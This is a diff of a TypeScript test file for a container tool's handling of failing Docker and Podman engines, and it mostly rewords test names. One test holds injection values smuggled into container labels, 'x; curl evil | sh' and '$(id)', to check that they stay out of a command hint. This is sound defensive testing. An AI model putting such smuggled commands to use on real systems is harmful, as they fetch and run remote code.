@@ -1,4 +1,4 @@
-/** What the runtime makes of an engine that fails: each answer is given by an engine of the test's own on a socket. */
+/** Failures of an engine, from a fake engine on a socket. */
 import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
 import type { ServerResponse } from "node:http";
 import { tmpdir } from "node:os";
@@ -61,7 +61,7 @@ const identity = { projectId: "shop", stateDir: "/state" };
 /** Hides the machine's programs and credentials. */
 const bare = (): NodeJS.ProcessEnv => ({ HOME: folder, DOCKER_CONFIG: folder, STACKWARDEN_PROGRAM_DIRS: folder });
 
-describe("a build", () => {
+describe("buildImage", () => {
   const messages: string[] = [];
   const build = (dockerfile: string, more: Partial<BuildOptions> = {}): Promise<string> => {
     mkdirSync(join(folder, "project"), { recursive: true });
@@ -87,7 +87,7 @@ describe("a build", () => {
   const PLAIN = "FROM scratch\n";
   const MOUNT = "FROM scratch\nRUN --mount=type=cache,target=/c true\n";
 
-  it("that needs BuildKit is refused in one sentence where the engine has none, and needs none on Podman", async () => {
+  it("a build that needs BuildKit is refused where the engine has none, and works on Podman", async () => {
     await start({ version: { ApiVersion: "1.38" } });
     await expect(build(MOUNT)).rejects.toMatchObject({
       code: "UNSUPPORTED",
@@ -101,12 +101,12 @@ describe("a build", () => {
     await fake.close();
     await start({ version: { Components: [{}, { Name: "Podman Engine" }] } });
     fake.on("POST /build", { lines: [{ stream: "Step 1/2 : FROM scratch\n" }] });
-    // The engine reports no id: the name refers to the image.
+    // The engine reports no id, so the name identifies the image.
     expect(await build(MOUNT)).toBe("stackwarden/x:1");
     await expect(build(PLAIN, { secrets: { token: "x" } })).rejects.toMatchObject({ code: "UNSUPPORTED" });
   });
 
-  it("goes by the classic builder where an engine refuses the session of its default, unless it needs BuildKit", async () => {
+  it("the classic builder is used when the engine refuses a BuildKit session", async () => {
     await start({ version: { ApiVersion: "1.43" } });
     fake.on("POST /build", { lines: [{ stream: "a\n\nb" }, { aux: { ID: "sha256:1" } }] });
     const more = {
@@ -118,14 +118,14 @@ describe("a build", () => {
     await expect(build(MOUNT)).rejects.toMatchObject({ code: "UNSUPPORTED" });
   });
 
-  it("ends with its start when the engine does not answer the request for a session", async () => {
+  it("a cancelled build ends while the engine does not answer the request for a session", async () => {
     await start({ version: { ApiVersion: "1.43" } });
     const cancel = new AbortController();
     fake.on("POST /session", () => cancel.abort(new Error("the start was cancelled")));
     await expect(build(MOUNT, { signal: cancel.signal })).rejects.toThrow("the start was cancelled");
   });
 
-  it("tells a wrong base image from a busy registry and from an engine that goes away", async () => {
+  it("a wrong base image, a busy registry and a lost engine have different errors", async () => {
     await start();
     fake.on("POST /build", { lines: [{ error: "pull access denied for x" }] });
     await expect(build(PLAIN)).rejects.toMatchObject({
@@ -146,7 +146,7 @@ describe("a build", () => {
     await expect(build(PLAIN)).rejects.toThrow("odd");
   });
 
-  it("by BuildKit reads progress that has other fields and broken messages", () => {
+  it("BuildKitProgress skips unknown fields and refuses invalid messages", () => {
     const lines: string[] = [];
     const progress = new BuildKitProgress((line) => lines.push(line));
     const vertex = (...fields: Buffer[]) =>
@@ -174,7 +174,7 @@ describe("a build", () => {
   });
 });
 
-describe("an image", () => {
+describe("images", () => {
   const phases: string[] = [];
   const pulling = (image: string, more: Partial<PullOptions> = {}) =>
     pull({
@@ -189,7 +189,7 @@ describe("an image", () => {
       ...more,
     });
 
-  it("that cannot be pulled has another error than a registry that does not answer, with progress until then", async () => {
+  it("a failed pull reports its progress and tells a wrong name from an unavailable registry", async () => {
     await start();
     const layer = (detail: object) => ({ id: "l", status: "Downloading", progressDetail: detail });
     fake.on("POST /images/create", {
@@ -214,7 +214,7 @@ describe("an image", () => {
     });
   });
 
-  it("of another platform is pulled, and one that disappears meanwhile is an error", async () => {
+  it("an image of another platform is pulled, and an image that is missing after its pull is an error", async () => {
     await start();
     const notices: string[] = [];
     const ensure = (service: object, more: Partial<EnsureOptions> = {}) =>
@@ -249,7 +249,7 @@ describe("an image", () => {
     fake.on("GET /images/x:1/json", fault(404, "none"));
     await expect(ensure({})).rejects.toThrow("is not there after its pull");
     await expect(ensure({ pullPolicy: "never" })).rejects.toThrow("does not have the image");
-    // The engine's own platform needs no other image; an old one is pulled again.
+    // An image of the engine's own platform is used; an old image is pulled again.
     fake.on("GET /images/x:1/json", image("amd64"));
     expect(await ensure({ platform: "linux/amd64", pullPolicy: "weekly" })).toMatchObject({ id: "sha256:amd64" });
     expect(await ensure({ pullPolicy: "always" })).toMatchObject({ id: "sha256:amd64" });
@@ -265,7 +265,7 @@ describe("volumes and leftovers", () => {
   const mounts = [{ type: "volume" as const, source: "data", target: "/data/", readOnly: false }];
   const request = () => ({ ...identity, volumes: ["data"], signal, maxBytes: 1 });
 
-  it("an engine that cannot look at a volume changes nothing", async () => {
+  it("a volume that cannot be inspected is not changed", async () => {
     await start();
     const { docker } = fake.engine;
     fake.on("GET /volumes/*", fault(500, "disk broken"));
@@ -283,7 +283,7 @@ describe("volumes and leftovers", () => {
     await expect(copyVolumes(docker, request(), folder)).rejects.toThrow("disk broken");
   });
 
-  it("everything else is removed before the failure of one container is reported", async () => {
+  it("a container that cannot be removed is reported after everything else is removed", async () => {
     await start();
     const { docker } = fake.engine;
     fake.on("GET /containers/json", { body: [{ Id: "a" }, { Id: "b", Labels: null }] });
@@ -301,7 +301,7 @@ describe("volumes and leftovers", () => {
     await removeProject(docker, identity);
   });
 
-  it("containers of other programs are named as far as the engine describes them", async () => {
+  it("containers of other programs are named, and labels with invalid names are ignored", async () => {
     await start();
     const { docker } = fake.engine;
     const Ports = [{ PublicPort: 80, Type: "tcp" }];
@@ -323,7 +323,7 @@ describe("volumes and leftovers", () => {
     });
     expect(await containerOn(docker, 80, "tcp")).toMatchObject({ project: "mine", service: "unknown" });
     expect(await composeWarning(docker, "/project")).toContain("runs 2 containers of this folder (project shop)");
-    // Any image can declare labels, and the name becomes a part of a command in the hint.
+    // Any image can declare labels, and the name becomes part of a command in the hint.
     const hostile = { "com.docker.compose.project": "x; curl evil | sh", "io.github.stackwarden.project": "$(id)" };
     fake.on("GET /containers/json", { body: [{ Id: "4", Names: ["/z"], Ports, Labels: hostile }] });
     expect(await containerOn(docker, 80, "tcp")).toEqual({ pid: null, program: null, container: "z" });
@@ -334,7 +334,7 @@ describe("volumes and leftovers", () => {
   });
 });
 
-describe("a container", () => {
+describe("containers", () => {
   const prepare = (more: object = {}) =>
     prepareContainer({
       engine: fake.engine,
@@ -354,7 +354,7 @@ describe("a container", () => {
       dependencies: async () => ({ volumes: [], environment: {} }),
     } as never);
 
-  it("that cannot be created leaves nothing, and its error says why", async () => {
+  it("a container that cannot be created is removed, and the error states the reason", async () => {
     await start();
     for (const [message, matching] of [
       [
@@ -401,7 +401,7 @@ describe("a container", () => {
     body: { State: { Running: false, Paused: false, ExitCode: 1, OOMKilled: false, FinishedAt: "", ...fields } },
   });
 
-  it("on Podman has the exit code of a missing program, and is resumed before it is killed", async () => {
+  it("a container on Podman with a missing program has exit code 127, and is resumed before a kill", async () => {
     await start();
     fake.on("POST /containers/c/wait", { body: { StatusCode: 1 } });
     fake.on("GET /containers/c/json", state({}));
@@ -427,13 +427,13 @@ describe("a container", () => {
       waiting?.end('{"StatusCode":137}');
     });
     const running = instance({ watch: watch({ oomKills: () => 1 }) });
-    // The signal is not delivered; the kill is.
+    // The signal is not delivered, but the kill is.
     expect(await running.stop(50, "SIGTERM")).toMatchObject({ exitCode: 1 });
     expect(fake.requests.filter((one) => one.endsWith("/unpause"))).toHaveLength(1);
     expect(await running.stop(50, "SIGTERM")).toMatchObject({ exitCode: 1 });
   });
 
-  it("whose kill the kernel made for its memory is reported as such, and one that is gone has ended", async () => {
+  it("an OOM kill by the kernel is reported, and a container that is gone has ended", async () => {
     await start();
     fake.on("POST /containers/c/wait", { body: { StatusCode: 137 } });
     fake.on("GET /containers/c/json", state({ ExitCode: 137, FinishedAt: "2026-11-29T10:00:00Z" }));
@@ -449,8 +449,8 @@ describe("a container", () => {
   });
 });
 
-describe("the plan of an installation", () => {
-  it("uses a lock file and npm's settings, which stay outside of the volume", async () => {
+describe("installPlan", () => {
+  it("a plan uses the lock file and npm's settings, which stay outside of the volume", async () => {
     writeFileSync(join(folder, "package.json"), '{"name":"x","version":"1.0.0","dependencies":{"ms":"2.1.3"}}');
     writeFileSync(join(folder, "package-lock.json"), JSON.stringify({ lockfileVersion: 3, packages: {} }));
     writeFileSync(join(folder, ".npmrc"), "registry=https://npm.example\n");
@@ -478,7 +478,7 @@ describe("binds of the project", () => {
   const services = (...mounts: ReturnType<typeof bind>[][]) =>
     Object.fromEntries(mounts.map((list, at) => [`s${at}`, serviceDefinition({ name: `s${at}`, mounts: list })]));
 
-  it("inside a writable folder are mount points of it, unless another mount hides them", () => {
+  it("a bind inside of a writable bind is a mount point unless another mount hides it", () => {
     const outer = bind(".", "/app");
     const definition = { services: services([outer], [bind("a/b", "/b"), bind("a/b/c", "/c")], [bind("d", "/d")]) };
     const pinned = (taken: string[], exists = (_source: string) => true) =>
@@ -493,7 +493,7 @@ describe("binds of the project", () => {
     ]);
   });
 
-  it("are created where they are missing, before a service that could put a link there, and given to the first that uses them", () => {
+  it("a missing bind source is created before a service could replace it with a link", () => {
     const [outer, inner] = [bind(".", "/app"), bind("data/deep", "/data")];
     const definition = { services: services([outer], [inner], [bind("kept", "/k", { createHostPath: false })]) };
     const pending = new Set<string>();
@@ -522,7 +522,7 @@ describe("the watchdog of a server", () => {
   };
   const address = { host: "unix:///nowhere.sock", source: "test" };
 
-  it("whose program is missing is reported once, and nothing is waited for", async () => {
+  it("a missing watchdog program is reported once", async () => {
     expect(findProgram("/")).toBeNull();
     const missing = watchdog(null);
     missing.watch(address);
@@ -532,10 +532,10 @@ describe("the watchdog of a server", () => {
     await missing.close();
   });
 
-  it("is started again when it is ended, after a pause where it ends at once, and not once it is closed", async () => {
+  it("a watchdog that ends is restarted, after a pause if it ran briefly, and never after close", async () => {
     const program = join(folder, "watchdog.mjs");
     const marker = join(folder, "marker");
-    // The first one ends at once, the next ones with their input.
+    // The first process ends at once, the next ones when their input ends.
     writeFileSync(
       program,
       `import { existsSync, writeFileSync } from "node:fs";
@@ -545,14 +545,14 @@ process.stdin.resume().on("end", () => process.exit(0));`,
     const started = watchdog(program);
     started.watch(address);
     const first = started.pid;
-    await until("the first one ended", () => warnings.length === 1);
+    await until("the first process ended", () => warnings.length === 1);
     await until("it runs again", () => started.pid !== null && started.pid !== first);
     started.removeAtEnd("/secrets");
-    // Long enough to be no failure of the start.
+    // Long enough that the end does not count as a failed start.
     await new Promise((resolve) => setTimeout(resolve, 1200));
     const second = started.pid as number;
     process.kill(second, "SIGKILL");
-    await until("a third one", () => started.pid !== second);
+    await until("the third process", () => started.pid !== second);
     await started.close();
     await started.close();
     expect(warnings).toHaveLength(2);
@@ -568,11 +568,11 @@ process.stdin.resume().on("end", () => process.exit(0));`,
   });
 });
 
-describe("an engine's address", () => {
-  it("has the usual port of its protocol, and fails where nothing listens or ssh is missing", async () => {
+describe("the address of an engine", () => {
+  it("an address gets its default port and certificates, and fails without a listener or ssh", async () => {
     const open = (host: string, more: object = {}) => openEngine({ host, source: "test", ...more }, bare(), signal);
     await expect(open("tcp://127.0.0.1:1")).rejects.toThrow("does not answer: ECONNREFUSED");
-    // Addresses of documentation are no machine's: port 2375, and 2376 with TLS.
+    // An address for documentation, with the default ports 2375 and 2376.
     for (const tls of [undefined, { skipVerify: true }])
       await expect(
         openEngine(
